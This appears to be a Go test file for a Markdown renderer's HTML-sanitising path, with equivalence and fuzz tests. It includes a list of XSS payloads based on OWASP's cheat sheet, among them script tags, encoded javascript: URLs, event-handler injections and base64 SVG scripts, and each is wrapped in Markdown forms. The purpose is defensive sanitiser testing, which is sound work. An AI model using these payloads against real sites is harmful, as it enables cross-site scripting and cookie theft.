package render

import (
	"bytes"
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/renderer"
	"github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"
	"github.com/yuin/goldmark/util"
)

// sanitised is how Markdown was rendered before safeHTML: the same parser,
// goldmark's own HTML renderers, then the sanitiser over all of it.
var sanitised = newMarkdownRendering(&markdownLimits, renderer.NewRenderer(renderer.WithNodeRenderers(
	util.Prioritized(html.NewRenderer(), 1000),
	util.Prioritized(extension.NewTableHTMLRenderer(), 500),
	util.Prioritized(extension.NewStrikethroughHTMLRenderer(), 500),
	util.Prioritized(extension.NewTaskCheckBoxHTMLRenderer(), 500),
)), true)

// renderSanitised renders src the way before safeHTML, highlighting
// untimed.
func renderSanitised(t testing.TB, src string) string {
	t.Helper()
	b := []byte(src)
	pc := parser.NewContext()
	pc.Set(highlightRunKey, &highlightRun{bounds: untimed, left: untimed.totalBytes})
	doc := sanitised.Parser().Parse(text.NewReader(b), parser.WithContext(pc))
	var buf bytes.Buffer
	if err := sanitised.Renderer().Render(&buf, b, doc); err != nil {
		t.Fatal(err)
	}
	return string(sanitizer.SanitizeBytes(buf.Bytes()))
}

// xssVectors are attacks on an HTML sanitiser, after OWASP's XSS filter
// evasion cheat sheet, each put in Markdown where it could land: as raw
// HTML, as a link's or an image's destination and title, in an autolink,
// in code.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
	`javascript:alert('XSS')`,
	`JaVaScRiPt:alert('XSS')`,
	`jav&#x09;ascript:alert('XSS');`,
	`jav&#x0A;ascript:alert('XSS');`,
	`&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;`,
	`&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058`,
	`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74`,
	" &#14;  javascript:alert('XSS');",
	"java\x00script:alert(1)",
	`vbscript:msgbox("XSS")`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K`,
	`data:image/png;base64,iVBORw0KGgo=`,
	`data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=`,
	`file:///etc/passwd`,
	`livescript:[code]`,
	`mocha:[code]`,
	`//evil.example/x`,
	`\\evil.example\x`,
	`http://xss.rocks/xss.js"onmouseover="alert(1)`,
	`x" onerror="alert(1)`,
	`x' onerror='alert(1)`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=//xss.rocks/.j>`,
	`<IMG SRC="` + "`" + `<javascript:alert>` + "`" + `('XSS')"`,
	`<iframe src=http://xss.rocks/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<svg/onload=alert('XSS')>`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`javascript&colon;alert(1)`,
	`javascript&#58;alert(1)`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;`,
	`&quot;&apos;&#39;&#34;`,
	`<math><mi xlink:href="data:x,<script>alert(4)</script>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<plaintext><script>alert(1)`,
	"\r\n<script>\r\nalert(1)\r</script>\r",
	"mention:0b5e7a7e-3f0a-4c55-9d0e-6a1f2b3c4d5e",
	"mention:ada",
	"https://example.com/a b",
	"http://a.example/?q=<x>&y=\"z\"",
	"https://例え.jp/パス?q=値#frag",
	"mailto:ada@example.com?subject=\"hi\"",
	"HTTPS://EXAMPLE.COM/%zz",
	"http://[::1]:namedport",
	"#h-title",
	"?q=1",
	"",
}

// markdownShapes are the places of Markdown an attack vector is put in.
var markdownShapes = []func(v string) string{
	func(v string) string { return v },
	func(v string) string { return "a " + v + " b\n" },
	func(v string) string { return "[link](" + v + ")" },
	func(v string) string { return "[link](<" + v + ">)" },
	func(v string) string { return "[link](/x \"" + v + "\")" },
	func(v string) string { return "[link](/x '" + v + "')" },
	func(v string) string { return "[" + v + "](/x)" },
	func(v string) string { return "![" + v + "](" + v + ")" },
	func(v string) string { return "![alt](" + v + " \"" + v + "\")" },
	func(v string) string { return "![](" + v + ")" },
	func(v string) string { return "[ref]\n\n[ref]: " + v + "\n" },
	func(v string) string { return "[ref]\n\n[ref]: <" + v + "> \"" + v + "\"\n" },
	func(v string) string { return "<" + v + ">" },
	func(v string) string { return "www." + v + ".example and https://" + v },
	func(v string) string { return "`" + v + "`" },
	func(v string) string { return "```\n" + v + "\n```\n" },
	func(v string) string { return "```html\n" + v + "\n```\n" },
	func(v string) string { return "    " + v + "\n" },
	func(v string) string { return "# " + v + "\n\n## b\n\n### c\n" },
	func(v string) string { return "| " + v + " |\n|:-:|\n| " + v + " |\n" },
	func(v string) string { return "> - [ ] " + v + "\n" },
	func(v string) string { return "[![" + v + "](" + v + ")](" + v + ")" },
	func(v string) string { return "[a](" + v + ") ![b](" + v + ") [c](" + v + ")" },
}

// constructs are Markdown of every kind the renderer knows, with the
// corners of each.
var constructs = []string{
	"Plain *em* **strong** ***both*** _u_ __uu__ ~~del~~ ~single~ `code` ``a`b`` ` spaced ` and \\*escaped\\* \\\\ \\",
	"Line one  \nline two\\\nline three\nline four",
	"Quotes \"double\" 'single' it's & ampersand &amp; &copy; &#169; &#xA9; &#0; &#x110000; &nbsp; &bogus; &#;",
	"1. one\n2. two\n\n7. seven\n8. eight\n\n- a\n\n- b\n\n* c\n+ d\n",
	"- [ ] open\n- [x] done\n- [X] Done\n  - [ ] nested\n\n1. [ ] numbered\n",
	"> quote\n>\n> > nested\n\n> lazy\ncontinued\n",
	"***\n---\n___\n\nSetext\n===\n\nSetext 2\n---\n",
	"# h1\n## h2\n### h3\n#### h4\n##### h5\n###### h6\n####### seven\n\n# *em* `code` [link](/x) <b>raw</b> ![img](/i.png)\n",
	"| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n| `\\|` | **x** | [l](/y) |\n| short |\n",
	"| a |\n|---|\n",
	"<div>\n*block html*\n</div>\n\n<!-- comment -->\n\n<?php echo 1; ?>\n\n<!DOCTYPE html>\n\n<![CDATA[ x ]]>\n\n<pre>\npre\n</pre>\n\ninline <span>html</span> <!-- c --> <?x?> <!X> <![CDATA[y]]> end",
	"<http://example.com> <https://example.com/a?b=c&d=e> <mailto:ada@example.com> <ada@example.com> <MAILTO:Ada@Example.com> <javascript:alert(1)> <foo@bar.example>",
	"Linkify www.example.com, http://example.org/path?x=1&y=2, https://example.net/(a) and ada@example.com.",
	"Write to ada@example.com (or *bob@example.org*).", "See ftp://files.example.com/a.", "See http://example.com.", "See https://example.com.", "See www.example.com.",
	"HTTP://EXAMPLE.COM and WWW.EXAMPLE.COM and FTP://X are not linked",
	"Blanks at line ends: a \t\nb\t \nc \t  \nd\v\f\ne \ne\t\nf  \ng \t",
	"[label with blanks \t\nat a line end](/x) and *emphasis \t\n*",
	"[inline](/url \"title\") [angle](<url with spaces>) [empty]() [title only]( \"t\") [ref] [Ref][] [full][ref] [missing][nope]\n\n[ref]: https://example.com/ref 'Ref title'\n",
	"![image](/a.png) ![image with title](/b.png \"A title\") ![*emphasis* in `alt`](/c.png) ![](/d.png) ![a\nb](/e.png) ![a  \nb](/f.png)",
	"[link ![img](/i.png) text](/l) [![only image](/i.png)](/l2)",
	"[@Ada](mention:0b5e7a7e-3f0a-4c55-9d0e-6a1f2b3c4d5e) and [@Bob](mention:bob) and [x](MENTION:0b5e7a7e-3f0a-4c55-9d0e-6a1f2b3c4d5e)",
	"```\nplain <b> & \"q\" 'a'\n```\n\n```go\nx := \"<b>\" // 'c' & d\n```\n\n~~~python\nprint('x')\n~~~\n\n```nosuch\ny\n```\n\n    indented <code>\n    & more\n",
	"Windows\r\nline ends\r\n\r\n- item\r\n- item\r\n\r\n```\r\ncode\r\n```\r\n\r\n# Head\r\nA [link](/x \"t\r\nu\")\r\n",
	"Old Mac\rline ends\r\rpara",
	"0\r<A>\n0 and 1\r<!-- c -->\n1 and 2\r\r<A> and 3\r\n\r<A>\n", "0\r[\nfoo](javascript:x) 1\r[a\r](javascript:x)\n2\r![a?](javascript:x)\nb",
	"a\r<javascript:x@y.z>\nb\r\n<div>\r\n\r\nc\r",
	"NUL \x00 in text `and \x00 code` [l\x00](/\x00) ![a\x00](/i\x00.png)\n\n```\n\x00\n```\n",
	"Unicode: héllo wörld 日本語 😀 \u00a0 \u2028 \ufeff",
	"Invalid UTF-8: \xff\xfe a\x80b",
	"Hard  \nbreak in *em  \nphasis*",
	"Autolink in link [<http://a.example>](/b) and [www.a.example](/b)",
	"[a](javascript:x) [b](javascript:y) ![c](javascript:z) [![d?](javascript:w)](javascript:v) [e](javascript:u) [f](/ok)",
	"![a?](javascript:x) [b](javascript:y) [c](/ok) ![](javascript:z) [d](javascript:w)",
	"[t](javascript:x \"ok title\") [u](javascript:x \"bad: title?\")",
}

// corpus is every input the equivalence tests render.
func corpus() []string {
	var all []string
	all = append(all, constructs...)
	for _, v := range xssVectors {
		for _, shape := range markdownShapes {
			all = append(all, shape(v))
		}
	}
	all = append(all, pathologicalSeeds()...)
	return all
}

// seedRenders holds the renders of the seed inputs (corpus and joined),
// each made once per process: TestSafeHTMLIsWhatTheSanitiserKeeps,
// TestPiecesRenderAsTheWhole and FuzzSafeHTML's seed run compare the same
// renders of the same inputs, and under -race making them again in each
// test cost the package seconds of CPU. Other inputs (the fuzzer's) are
// rendered every time.
var seedRenders sync.Map // seedKey -> *seedResult

// seedInputs are corpus and joined.
var seedInputs = sync.OnceValue(func() map[string]bool {
	m := map[string]bool{}
	for _, s := range corpus() {
		m[s] = true
	}
	for _, s := range joined() {
		m[s] = true
	}
	return m
})

// seedKey is a render of src: in pieces of at least piece bytes, or
// sanitised (piece 0).
type seedKey struct {
	src   string
	piece int
}

type seedResult struct {
	once   sync.Once
	out    string
	pieces int
	err    error
}

// seedRender is renderMarkdown's HTML of src in pieces of at least piece
// bytes, untimed, and how many pieces it took. A document shorter than
// twice piece is rendered whole (renderMarkdown), so every such piece
// shares one render.
func seedRender(t testing.TB, src string, piece int) (string, int) {
	t.Helper()
	if len(src) < 2*piece {
		piece = len(src) + 1
	}
	r := seedResultOf(src, piece, func(r *seedResult) {
		out, _, pieces, err := renderMarkdown(context.Background(), []byte(src), untimed, piece)
		r.out, r.pieces, r.err = string(out), pieces, err
	})
	if r.err != nil {
		t.Fatal(r.err)
	}
	return r.out, r.pieces
}

// seedSanitised is renderSanitised(src), made once per seed input.
func seedSanitised(t testing.TB, src string) string {
	t.Helper()
	return seedResultOf(src, 0, func(r *seedResult) { r.out = renderSanitised(t, src) }).out
}

func seedResultOf(src string, piece int, fill func(*seedResult)) *seedResult {
	if !seedInputs()[src] {
		r := &seedResult{}
		fill(r)
		return r
	}
	v, _ := seedRenders.LoadOrStore(seedKey{src, piece}, &seedResult{})
	r := v.(*seedResult)
	r.once.Do(func() { fill(r) })
	return r
}

// joined are documents of many blocks: the corpus's inputs one after the
// other, as paragraphs, list items and quotes.
func joined() []string {
	// Those with reference definitions or "\r" are never cut
	// (cuttable): they are joined apart.
	var plain, other []string
	for _, src := range corpus() {
		if cuttable([]byte(src)) {
			plain = append(plain, src)
		} else {
			other = append(other, src)
		}
	}
	var docs []string
	for _, sep := range []string{"\n\n", "\n\nA paragraph between.\n\n", "\n\n- item\n\n  ", "\n\n> ", "\n"} {
		for _, c := range [][]string{plain, other} {
			for i := 0; i < len(c); i += 40 {
				docs = append(docs, strings.Join(c[i:min(i+40, len(c))], sep))
			}
		}
	}
	docs = append(docs,
		"[a]\n\nText.\n\n[a]: /late\n\nMore [a] and [b].\n\n[b]: /b\n[a]: /ignored\n",
		"# One\n\nText.\n\n# One\n\nText.\n\n## Two\n\nText.\n",
		"- a\n- b\n\nText.\n\n- c\n\n- d\n\nText.\n\n1. x\n\nText.\n",
		"```\ncode\n\nText in code.\n\n```\n\nText.\n\n<!--\n\nText in a comment.\n\n-->\n\nText.\n",
		"[@Ada][m]\n\nText.\n\n[m]: mention:0b5e7a7e-3f0a-4c55-9d0e-6a1f2b3c4d5e\n",
		"![a?](javascript:x) [b](javascript:y)\n\nText [c](javascript:z) and [d](/ok).\n\n[e](javascript:w)\n",
		"| a |\n|---|\n| `\\|` |\n\nText.\n\n| b |\n|---|\n| x |\n",
		"Text\n\n    indented\n\nText\n===\n\nText\n\n---\n\nText\n",
	)
	return docs
}

func TestPiecesRenderAsTheWhole(t *testing.T) {
	t.Parallel()
	cut := 0
	docs := joined()
	for i, src := range docs {
		whole, _ := seedRender(t, src, len(src)+1)
		got, pieces := seedRender(t, src, 1)
		if pieces > 1 {
			cut++
		}
		if got != whole {
			t.Errorf("%q in %d pieces (-whole +pieces):\n%s", src, pieces, cmp.Diff(whole, got))
		}
		// The sanitiser is slow under -race, and each part was held to it
		// alone (TestSafeHTMLIsWhatTheSanitiserKeeps): one document in
		// eight, and the handmade ones at the end.
		if i%8 == 0 || i >= len(docs)-8 {
			if want := seedSanitised(t, src); whole != want {
				t.Errorf("%q (-sanitised +now):\n%s", src, cmp.Diff(want, whole))
			}
		}
	}
	if cut < len(docs)/3 {
		t.Errorf("%d documents of %d cut in pieces", cut, len(docs))
	}
	t.Run("a long document is cut in pieces of at least pieceBytes", func(t *testing.T) {
		src := repeat("Some *emphasis*, a [link](/documents/x) and `code` in a paragraph.\n\n", 4*pieceBytes)
		_, _, pieces, err := renderMarkdown(context.Background(), []byte(src), untimed, pieceBytes)
		if err != nil {
			t.Fatal(err)
		}
		// Paragraphs start every 70 bytes: the fourth piece would be short.
		if pieces != 3 {
			t.Errorf("%d pieces, want 3", pieces)
		}
	})
	t.Run("a cut inside fenced code leaves the rest whole", func(t *testing.T) {
		src := "Text.\n\n```\n" + repeat("code\n\n", 3*pieceBytes) + "```\n\nText.\n"
		out, _, pieces, err := renderMarkdown(context.Background(), []byte(src), untimed, pieceBytes)
		if err != nil {
			t.Fatal(err)
		}
		if pieces != 1 || string(out) != renderSanitised(t, src) {
			t.Errorf("%d pieces: %.200s", pieces, out)
		}
	})
}

func TestSafeHTMLIsWhatTheSanitiserKeeps(t *testing.T) {
	t.Parallel()
	for _, src := range corpus() {
		got, _ := seedRender(t, src, pieceBytes)
		if want := seedSanitised(t, src); got != want {
			t.Errorf("render of %q differs from the sanitised render (-sanitised +now):\n%s", src, cmp.Diff(want, got))
			continue
		}
		if again := sanitizer.Sanitize(got); again != got {
			t.Errorf("the sanitiser changes the render of %q (-render +sanitised):\n%s", src, cmp.Diff(got, again))
		}
		checkSanitised(t, got)
		if s := strings.ToLower(got); strings.Contains(s, "<script") || strings.Contains(s, `href="javascript`) || strings.Contains(s, `src="javascript`) {
			t.Errorf("render of %q: %s", src, got)
		}
	}
}

// FuzzSafeHTML holds safeHTML to the sanitiser on any input:
//
//	go test ./render -run '^$' -fuzz FuzzSafeHTML -fuzztime 5m
func FuzzSafeHTML(f *testing.F) {
	for _, s := range corpus() {
		f.Add(s)
	}
	for _, s := range joined() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		got, _ := seedRender(t, src, pieceBytes) // as render(t, src)
		if want := seedSanitised(t, src); got != want {
			t.Fatalf("render of %q differs from the sanitised render (-sanitised +now):\n%s", src, cmp.Diff(want, got))
		}
		if pieces, _ := seedRender(t, src, 1); pieces != got {
			t.Fatalf("render of %q in pieces (-whole +pieces):\n%s", src, cmp.Diff(got, pieces))
		}
		if again := sanitizer.Sanitize(got); again != got {
			t.Fatalf("the sanitiser changes the render of %q (-render +sanitised):\n%s", src, cmp.Diff(got, again))
		}
	})
}

func TestPlainURLs(t *testing.T) {
	t.Parallel()
	plain := []string{
		"/documents/x", "a/b", "a", ".", "..", "./a", "../a/b", "/", "/a//b", "/a/./b/../c", "a_b~c-d.e",
		"https://example.com", "http://example.com/", "https://a.example/b/c.html", "https://-a-.example./x",
		"http://a//b", "https://EXAMPLE.com/A",
	}
	for _, u := range plain {
		if !plainURL(u) {
			t.Errorf("%q is not plain", u)
			continue
		}
		if got, ok := parsedURL(u); !ok || got != u {
			t.Errorf("parsed, %q is %q, %v", u, got, ok)
		}
	}
	for _, u := range []string{
		"", "//host/x", "https://", "https:///x", "http://a:80/", "HTTP://a/", "javascript:x", "a:b", "/a b", " /a",
		"/a?b", "/a#b", "#b", "/a%20b", "/é", "https://a@b/", "mailto:x", "/a\x00", "/a\\b",
	} {
		if plainURL(u) {
			t.Errorf("%q is plain", u)
		}
	}
}

// FuzzPlainURL holds plainURL to net/url: what it passes as it is, net/url
// writes as it is.
func FuzzPlainURL(f *testing.F) {
	for _, u := range []string{"/documents/x", "https://a.example/b", "a:b", "//x", "http://a"} {
		f.Add(u)
	}
	f.Fuzz(func(t *testing.T, u string) {
		if !plainURL(u) {
			return
		}
		if got, ok := parsedURL(u); !ok || got != u {
			t.Errorf("parsed, %q is %q, %v", u, got, ok)
		}
	})
}
